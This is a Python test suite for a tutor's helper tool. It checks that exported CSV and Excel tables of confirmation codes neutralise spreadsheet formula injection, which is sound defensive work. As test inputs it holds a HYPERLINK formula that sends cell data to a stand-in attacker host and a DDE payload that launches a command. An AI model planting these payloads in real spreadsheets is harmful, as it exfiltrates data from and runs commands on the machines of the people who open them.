"""Spreadsheet formula injection: nothing the helper writes to the codes table runs as a formula.

Threat: eTMA's error text, codes, file and folder names come from a server or a page and end
up in confirmation_codes.csv and .xlsx, which a tutor opens in Excel or LibreOffice. A cell
starting with =, +, -, @, tab, CR or LF is read as a formula there (OWASP "CSV Injection"), and
openpyxl stores any string starting with = as a formula. Every cell is therefore neutralised
(a leading single quote, and one after a separator or double quote that a trigger follows),
the CSV quotes every field, and the workbook holds only string cells.
"""

from __future__ import annotations

import csv
import re
import string
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from etma_helper.export import COLUMNS, TRIGGERS, neutralise, write_codes_csv
from etma_helper.records import FileEntry, Outcome

ATTACK = '=HYPERLINK("http://attacker/?d="&A2&B2,"retry")'
# A separator or double quote, then any tabs or line breaks, then a formula character: where a
# spreadsheet that splits the value (a ';' locale, a broken quote) would start a formula cell.
FORMULA_AFTER_SEPARATOR = re.compile(r'[,;"\t\r\n][\t\r\n]*[=+\-@]')


def read_csv(path: Path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as table:
        return list(csv.reader(table))


def read_xlsx(path: Path) -> list[list[openpyxl.cell.Cell]]:
    book = openpyxl.load_workbook(path)
    return [list(row) for row in book.active.iter_rows()]


def outcome(pi: str, *, code="", reason="", folder=None, files=1, state="failed") -> Outcome:
    entries = tuple(FileEntry(f"f{n}.docx", 1, "0" * 64) for n in range(files))
    return Outcome(pi=pi, state=state, reason=reason, code=code, folder=folder, files=entries)


# The only cells the workbook stores as numbers or dates (counts, sizes, the submission date).
NUMERIC_COLUMNS = {"Files", "Size (KB)", "Submitted"}


def assert_no_formula_anywhere(table: Path) -> None:
    header, *rows = read_xlsx(table.with_suffix(".xlsx"))
    names = [cell.value for cell in header]
    for row in [header, *rows]:
        for name, cell in zip(names, row, strict=True):
            if cell.value is None:
                continue
            assert cell.data_type != "f", (cell.coordinate, cell.value)
            if isinstance(cell.value, str):
                assert cell.data_type == "s", (cell.coordinate, cell.value, cell.data_type)
                assert not cell.value.startswith(tuple(TRIGGERS)), cell.value
            else:  # a number or a date: only where the table means one, and never negative
                assert name in NUMERIC_COLUMNS and cell.data_type in ("n", "d"), cell.coordinate
                assert cell.is_date or cell.value >= 0, (cell.coordinate, cell.value)


def xlsx_rows(table: Path) -> dict[str, dict[str, object]]:
    """The workbook's rows by PI, each as column name -> value."""
    header, *rows = read_xlsx(table.with_suffix(".xlsx"))
    names = [cell.value for cell in header]
    return {row[0].value: {n: c.value for n, c in zip(names, row, strict=True)} for row in rows}


@pytest.mark.parametrize("trigger", ["=", "+", "-", "@", "\t", "\r", "\n"])
def test_reason_code_and_folder_starting_with_a_trigger_are_quoted_in_csv_and_xlsx(
    tmp_path: Path, trigger: str
):
    reason, code, folder = f"{trigger}1+2 reason", f"{trigger}CODE", f"{trigger}X1234567"
    table = write_codes_csv(
        tmp_path / "confirmation_codes.csv",
        [outcome("X1234567", code=code, reason=reason, folder=folder)],
    )
    header, row = read_csv(table)
    got = dict(zip(header, row, strict=True))
    assert got["Reason"] == "'" + reason
    assert got["Code"] == "'" + code
    assert got["Folder"] == "'" + folder
    xlsx_header, xlsx_row = read_xlsx(table.with_suffix(".xlsx"))
    cells = {h.value: c for h, c in zip(xlsx_header, xlsx_row, strict=True)}
    for column, value in (("Reason", reason), ("Code", code), ("Folder", folder)):
        assert cells[column].data_type == "s"
        # XML reads a CR as LF, so the workbook stores line breaks as LF.
        assert cells[column].value == "'" + value.replace("\r", "\n")
    assert_no_formula_anywhere(table)


def test_the_hyperlink_exfiltration_reason_is_text_not_a_live_formula(tmp_path: Path):
    table = write_codes_csv(
        tmp_path / "confirmation_codes.csv",
        [outcome("X1234567", reason=ATTACK), outcome(ATTACK, code=ATTACK, folder=ATTACK)],
    )
    for row in read_csv(table)[1:]:
        assert all(not cell.startswith(tuple(TRIGGERS)) for cell in row), row
    assert f"'{ATTACK}" in {cell for row in read_csv(table) for cell in row}
    assert_no_formula_anywhere(table)
    # Every field of the CSV is in double quotes, so a separator in a value cannot start a cell.
    lines = table.read_text(encoding="utf-8").splitlines()
    assert lines[0] == ",".join(f'"{c}"' for c in COLUMNS)


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("x;=1+2", "x;'=1+2"),
        ('x",=1+2', "x\",'=1+2"),
        ("a,@SUM(A1:A9)", "a,'@SUM(A1:A9)"),
        ("line\n-2+3", "line\n'-2+3"),
        ("x;\t=1", "x;'\t'=1"),
    ],
)
def test_a_trigger_after_a_separator_or_quote_inside_a_value_is_quoted(
    tmp_path: Path, value: str, expected: str
):
    table = write_codes_csv(tmp_path / "c.csv", [outcome("X1", reason=value)])
    assert dict(zip(*read_csv(table), strict=True))["Reason"] == expected
    assert_no_formula_anywhere(table)


def test_ordinary_values_are_written_unchanged(tmp_path: Path):
    """A code with a dash, a reason with a dash or comma after a space, a count: untouched."""
    reason = "HTTP 500 - Internal Server Error, try again (-1 of 3)\r\nthen: log in"
    table = write_codes_csv(
        tmp_path / "c.csv",
        [outcome("X1234567", code="ABC-123", reason=reason, folder="X1234567", files=3)],
    )
    got = dict(zip(*read_csv(table), strict=True))
    assert got == {
        "PI": "X1234567",
        "Name": "",
        "Assignment": "",
        "Code": "ABC-123",
        "Status": "failed",
        "Submitted": "",
        "Late": "",
        "Reason": reason,
        "Files": "3",
        "Size (KB)": "0.0",
        "Folder": "X1234567",
    }


def test_a_negative_looking_value_is_quoted_like_any_other_leading_minus(tmp_path: Path):
    """Decision: no exception for values that look like numbers. Every column of this table
    is text (codes, names, reasons, a file count that is never negative), and "-2+3" is as
    much a formula as "=2+3", so a leading minus is always quoted; the text stays readable."""
    table = write_codes_csv(tmp_path / "c.csv", [outcome("X1", code="-12", reason="-2+3")])
    got = dict(zip(*read_csv(table), strict=True))
    assert (got["Code"], got["Reason"]) == ("'-12", "'-2+3")


def test_rewriting_merges_without_quoting_twice(tmp_path: Path):
    path = tmp_path / "confirmation_codes.csv"
    write_codes_csv(path, [outcome("X1", code="=CODE", reason=ATTACK, folder="@dir")])
    first_csv = path.read_bytes()
    write_codes_csv(path, [outcome("X1", code="=CODE", reason=ATTACK, folder="@dir")])
    assert path.read_bytes() == first_csv  # the same job again: the same table

    # A later codes-only run for X1 knows no code or folder (they are kept from the first
    # run, still quoted once); a new student X2 is added.
    write_codes_csv(path, [outcome("X1", reason="+again"), outcome("X2", code="-CODE2")])
    rows = {row[0]: dict(zip(COLUMNS, row, strict=True)) for row in read_csv(path)[1:]}
    assert rows["X1"]["Code"] == "'=CODE"
    assert rows["X1"]["Folder"] == "'@dir"
    assert rows["X1"]["Reason"] == "'+again"
    assert rows["X2"]["Code"] == "'-CODE2"
    assert xlsx_rows(path)["X1"]["Code"] == "'=CODE"
    assert_no_formula_anywhere(path)


def test_a_table_written_before_neutralising_is_neutralised_when_next_written(tmp_path: Path):
    path = tmp_path / "confirmation_codes.csv"
    with open(path, "w", newline="", encoding="utf-8") as table:
        writer = csv.writer(table)
        writer.writerow(["PI", "Code", "Status", "Reason", "Files", "Folder"])  # 0.1's layout
        writer.writerow(["X1", "=1+2", "failed", ATTACK, "", "@folder"])
    write_codes_csv(path, [outcome("X2", code="OK-1", state="done")])
    rows = {row[0]: dict(zip(COLUMNS, row, strict=True)) for row in read_csv(path)[1:]}
    assert rows["X1"]["Code"] == "'=1+2"
    assert rows["X1"]["Reason"] == "'" + ATTACK
    assert rows["X1"]["Folder"] == "'@folder"
    assert rows["X2"]["Code"] == "OK-1"
    assert_no_formula_anywhere(path)


def test_control_characters_from_a_server_do_not_break_the_workbook(tmp_path: Path):
    """openpyxl refuses most control characters; the reason must still be written."""
    table = write_codes_csv(tmp_path / "c.csv", [outcome("X1", reason="bad\x00byte\x1b[31m")])
    assert dict(zip(*read_csv(table), strict=True))["Reason"] == "bad\x00byte\x1b[31m"
    assert xlsx_rows(table)["X1"]["Reason"] == "bad\ufffdbyte\ufffd[31m"


TEXT = st.text(alphabet=st.sampled_from("=+-@\t\r\n,;\"' aA1" + string.punctuation), max_size=12)


@given(TEXT)
def test_neutralise_is_idempotent_and_leaves_no_trigger_at_a_cell_start(value: str):
    once = neutralise(value)
    assert neutralise(once) == once
    assert not once.startswith(tuple(TRIGGERS))
    assert not FORMULA_AFTER_SEPARATOR.search(once)
    assert once.replace("'", "") == value.replace("'", "")  # only quotes were added


def test_a_name_from_a_job_or_a_page_is_neutralised_like_any_text(tmp_path: Path):
    hostile = Outcome(pi="X1", state="done", code="AB12-CD34", name="=cmd|' /C calc'!A0")
    table = write_codes_csv(tmp_path / "c.csv", [hostile], assignment="TMA02")
    assert dict(zip(*read_csv(table), strict=True))["Name"] == "'=cmd|' /C calc'!A0"
    assert xlsx_rows(table)["X1"]["Name"] == "'=cmd|' /C calc'!A0"
    assert_no_formula_anywhere(table)


def test_number_and_date_columns_holding_anything_else_stay_neutralised_text(tmp_path: Path):
    """Only a whole number, a plain decimal or an ISO date becomes a number or a date; a cell
    an earlier (or edited) table holds in those columns that is anything else stays text."""
    path = tmp_path / "confirmation_codes.csv"
    with open(path, "w", newline="", encoding="utf-8") as table:
        writer = csv.writer(table)
        writer.writerow(COLUMNS)
        writer.writerow(["X1", "", "", "", "failed", "=NOW()", "", "", "-1+2", "@SUM(1)", "d"])
    write_codes_csv(path, [outcome("X2", code="OK-1", state="done", folder="f")])
    row = xlsx_rows(path)["X1"]
    assert (row["Files"], row["Size (KB)"], row["Submitted"]) == ("'-1+2", "'@SUM(1)", "'=NOW()")
    assert xlsx_rows(path)["X2"]["Files"] == 1
    assert_no_formula_anywhere(path)
